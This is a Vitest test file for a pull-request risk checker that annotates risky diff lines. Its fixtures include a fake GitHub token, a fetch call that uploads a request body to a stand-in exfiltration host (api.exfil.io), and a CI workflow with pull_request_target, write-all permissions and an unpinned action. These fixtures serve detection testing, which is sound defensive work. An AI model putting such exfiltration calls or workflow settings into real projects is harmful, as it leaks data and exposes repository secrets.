import { describe, expect, it } from "vitest";
import { riskAnnotations } from "../../src/policy/annotations.js";
import { defaultPolicy } from "../../src/policy/config.js";
import { assessRisk } from "../../src/policy/risk.js";
import { batchAnnotations } from "../../src/shared/annotations.js";
import { file, pr, withAdded } from "./engine-helpers.js";

const SECRET = `ghp_${"a1B2c3D4e5".repeat(4).slice(0, 36)}`;

describe("approval check annotations at the risky lines", () => {
  const files = [
    withAdded("src/config.ts", ["const x = 1;", `export const token = "${SECRET}";`]),
    withAdded("src/client.ts", ['await fetch("https://api.exfil.io/upload", { body })']),
    withAdded(".github/workflows/ci.yml", ["on: pull_request_target", "permissions: write-all", "      - uses: some/action@main"]),
    withAdded("package.json", ['    "left-pad": "^1.3.0",']),
    file("scripts/run.sh", { status: "added", mode: { new: "100755" } }),
  ];
  const { findings } = assessRisk({ policy: defaultPolicy(), files, pr: pr() });
  const annotations = riskAnnotations(findings);
  const at = (path: string) => annotations.filter((a) => a.path === path);

  it("an added secret is annotated at its line, redacted: its kind, never its text", () => {
    expect(at("src/config.ts")).toEqual([expect.objectContaining({ start_line: 2, end_line: 2, annotation_level: "failure", title: "Agent Gate: secret-in-diff (critical)" })]);
    expect(JSON.stringify(annotations)).not.toContain(SECRET);
    expect(JSON.stringify(annotations)).not.toContain(SECRET.slice(4, 20));
  });

  it("a new external host, the workflow steps that gain power, a new dependency, a new executable", () => {
    expect(at("src/client.ts")).toEqual([expect.objectContaining({ start_line: 1, message: expect.stringContaining("api.exfil.io") })]);
    expect(at(".github/workflows/ci.yml").map((a) => [a.start_line, a.message.split(" — ")[0]])).toEqual([
      [1, "a pull_request_target trigger (runs with secrets on code from forks)"],
      [2, "permissions widened (permissions: write-all)"],
      [3, "an action not pinned to a commit SHA (some/action@\u200dmain)"], // plainText keeps @ from mentioning,
    ]);
    expect(at("package.json")).toEqual([expect.objectContaining({ start_line: 1, message: expect.stringMatching(/^a new dependency \(left-pad\)/) })]);
    expect(at("scripts/run.sh")).toEqual([expect.objectContaining({ start_line: 1, annotation_level: "warning", message: "a file became executable" })]);
  });

  it("path-only rules (a sensitive directory) do not annotate: only detector hits say where the risk is", () => {
    expect(at(".github/workflows/ci.yml").some((a) => a.title?.includes("gate-control"))).toBe(false);
  });

  it("goes 50 per request and stops at 500", () => {
    const many = Array.from({ length: 700 }, (_, i) => withAdded(`src/f${i}.ts`, [`fetch("https://h${i}.exfil.io/x")`]));
    const all = riskAnnotations(assessRisk({ policy: defaultPolicy(), files: many, pr: pr() }).findings);
    expect(all).toHaveLength(500);
    expect(batchAnnotations(all).map((b) => b.length)).toEqual(Array.from({ length: 10 }, () => 50));
  });
});
